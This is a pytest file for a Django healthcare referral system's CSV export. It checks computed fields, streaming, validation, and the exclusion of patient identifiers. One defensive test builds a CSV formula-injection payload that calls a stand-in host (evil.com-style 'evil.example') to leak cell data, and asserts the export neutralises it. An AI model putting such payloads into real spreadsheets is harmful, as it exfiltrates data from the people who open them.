"""The CSV export of referrals: the data set's fields, computed right, streamed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from core.models import AuditAction, AuditEvent
from recovery_at_home import services as rah
from recovery_at_home.models import TriageCategory
from referrals import services
from teams.services import accept_onto_caseload, discharge_from_caseload
from tests.factories import ReferralFactory, TeamFactory
from tools.alert_sweep_bench import build_open_referrals

LONDON = ZoneInfo("Europe/London")
SUMMER_MORNING = dt.datetime(2026, 7, 14, 9, 30, tzinfo=LONDON)


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_has_the_clock_fields_for_each_referral(world, client_for):
    coordinator, member = world.users["rah_coordinator"], world.users["cit_member_a"]
    with time_machine.travel(SUMMER_MORNING, tick=False):
        in_time = ReferralFactory(patient=world.patient_b, service=world.rah)
        late = ReferralFactory(patient=world.patient_b, service=world.rah)
        for referral in (in_time, late):
            rah.triage_referral(
                referral=referral, category=TriageCategory.objects.get(code="urgent"), user=coordinator
            )
    with time_machine.travel(SUMMER_MORNING + dt.timedelta(minutes=95), tick=False):
        rah.record_arrival(referral=in_time, user=coordinator)
    with time_machine.travel(SUMMER_MORNING + dt.timedelta(minutes=150), tick=False):
        rah.record_arrival(referral=late, user=coordinator)
    with time_machine.travel(SUMMER_MORNING + dt.timedelta(days=1), tick=False):
        team_referral = ReferralFactory(patient=world.patient_a, service=world.cit, team=world.team_a)
        entry = accept_onto_caseload(referral=team_referral, key_worker=member, user=member)
        discharge_from_caseload(
            entry=entry, user=member, reason="goals_met", note=f"{world.patient_a.full_name} is walking again"
        )

    response = client_for(world.users["service_manager"]).get(
        reverse("referral_export"), {"received_from": "2026-07-14", "received_to": "2026-07-15"}
    )
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    rows = {row["Referral identifier"]: row for row in _rows(response)}
    assert set(rows) == {in_time.reference, late.reference, team_referral.reference}
    on_time = rows[in_time.reference]
    assert (on_time["Referral received date"], on_time["Referral received time"]) == ("2026-07-14", "09:30")
    assert on_time["Source of referral"] == "GP practice"
    assert on_time["Primary reason for referral"] == "Fall without serious injury"
    assert on_time["Referral priority"] == "Urgent (2 hours)"
    assert (on_time["Response clock start"], on_time["Response clock stop"]) == (
        "2026-07-14 09:30",
        "2026-07-14 11:05",
    )
    assert on_time["Local target met (Y/N)"] == "Y"
    assert rows[late.reference]["Local target met (Y/N)"] == "N"
    closed = rows[team_referral.reference]
    assert (closed["Team"], closed["Referral priority"], closed["Local target met (Y/N)"]) == (
        world.team_a.name,
        "Routine",
        "",
    )
    assert (closed["Discharge date"], closed["Discharge reason (code)"]) == ("2026-07-15", "goals_met")
    assert world.patient_a.family_name not in str(rows)  # the discharge note is not exported
    (event,) = AuditEvent.objects.filter(action=AuditAction.LIST, detail__startswith="CSV export")
    assert event.patient is None


def test_free_text_and_formulas_never_reach_the_spreadsheet(world, client_for):
    """A decline reason may name the person or carry a formula that runs when the
    manager opens the file: the export carries the coded status, and any cell that a
    spreadsheet would read as a formula (a team named so, say) is text."""
    with time_machine.travel(SUMMER_MORNING, tick=False):
        formula_team = TeamFactory(name='=HYPERLINK("https://evil.example/?d="&A1,"Open")')
        declined = ReferralFactory(patient=world.patient_a, service=world.cit, team=formula_team)
        services.decline_referral(
            referral=declined,
            user=world.users["cit_member_a"],
            reason=f'=HYPERLINK("https://evil.example/?d="&A1,"Open") {world.patient_a.full_name} '
            f"{world.patient_a.nhs_number}",
        )
    response = client_for(world.users["service_manager"]).get(
        reverse("referral_export"), {"received_from": "2026-07-14", "received_to": "2026-07-14"}
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = [r for r in csv.DictReader(io.StringIO(text)) if r["Referral identifier"] == declined.reference]
    assert row["Discharge reason (code)"] == "declined"
    assert row["Team"] == "'" + formula_team.name  # shown as text, never evaluated
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in csv.reader(io.StringIO(text)) for cell in r
    )
    assert world.patient_a.family_name not in text and world.patient_a.nhs_number not in text


def test_ten_thousand_rows_stream_in_bounded_memory(world, client_for):
    build_open_referrals(open_referrals=10_000, due=100)
    client = client_for(world.users["service_manager"])
    response = client.get(
        reverse("referral_export"), {"received_from": "2020-01-01", "received_to": "2030-12-31"}
    )
    assert response.streaming
    tracemalloc.start()
    try:
        lines = sum(chunk.count(b"\n") for chunk in response.streaming_content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == 1 + 10_000 + 2  # header, the bulk referrals, the world's two
    assert peak < 8 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB: the export is not streaming"


def test_a_period_that_ends_before_it_starts_is_refused_beside_the_field(world, client_for):
    page = client_for(world.users["service_manager"]).get(
        reverse("referral_export"), {"received_from": "2026-07-14", "received_to": "2026-07-01"}
    )
    assert page.status_code == 400
    html = page.content.decode()
    assert "The end of the period must be on or after its start." in html and 'value="2026-07-14"' in html


@pytest.mark.parametrize("extract", ["flat", "cyp101", "cyp104"])
def test_each_export_opens_in_excel_with_its_accents_intact(world, client_for, extract):
    """UTF-8 with a byte-order mark, which Excel needs to read it as UTF-8."""
    day = timezone.localdate().isoformat()
    response = client_for(world.users["service_manager"]).get(
        reverse("referral_export"), {"received_from": day, "received_to": day, "extract": extract}
    )
    assert b"".join(response.streaming_content).startswith("\ufeff".encode())


def test_a_signed_in_page_is_not_kept_by_the_browser(world, client_for):
    page = client_for(world.users["gp_a"]).get(reverse("patient_detail", args=[world.patient_a.pk]))
    assert "no-store" in page["Cache-Control"]
